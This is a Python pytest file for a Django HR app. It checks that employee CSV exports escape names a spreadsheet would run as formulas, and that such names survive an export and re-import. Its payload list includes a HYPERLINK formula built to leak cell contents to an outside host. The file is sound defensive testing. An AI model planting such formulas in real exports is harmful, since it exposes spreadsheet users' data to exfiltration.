"""Issue 13, finding 4: names a spreadsheet would run as formulas, in both employee CSV
exports, and the round trip of such a name through an export and an import."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from formasi.transfer import services
from formasi.workforce.models import Employee
from tests.personas import World
from tests.transfer.builders import KIND, ctx_for

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://x?leak="&A2,"Klik")', "+62 811", "-Siti", "@SUM(A1)", "=1+2"]


def _name_cells(text: str, header: str) -> set[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    column = rows[0].index(header)
    return {r[column] for r in rows[1:]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_both_employee_csv_exports_write_formula_like_names_as_text(
    world: World, client_for: Any, payload: str
) -> None:
    Employee.unscoped.filter(pk=world.employee_dinkes.pk).update(name=payload)
    client = client_for("admin_a")

    page = client.get(reverse("workforce:employee_export"))
    page_names = _name_cells(b"".join(page.streaming_content).decode("utf-8"), "Nama")
    transfer = client.get(reverse("transfer:export", args=["employees", "csv"]))
    transfer_names = _name_cells(transfer.content.decode("utf-8"), "Nama")

    for names in (page_names, transfer_names):
        assert "'" + payload in names and payload not in names


def test_a_formula_like_name_survives_export_and_import(world: World, client_for: Any) -> None:
    Employee.unscoped.filter(pk=world.employee_dinkes.pk).update(name="=1+2")
    data = client_for("admin_a").get(reverse("transfer:export", args=["employees", "csv"]))
    assert "'=1+2" in _name_cells(data.content.decode("utf-8"), "Nama")
    Employee.unscoped.filter(pk=world.employee_dinkes.pk).update(name="Siti Rahmawati")

    admin = world.users["admin_a"]
    outcome = services.commit(KIND, ctx_for(admin, world.agency_a, "p.csv"), data.content)

    assert outcome.counts()["changed"] == 1
    assert Employee.unscoped.get(pk=world.employee_dinkes.pk).name == "=1+2"
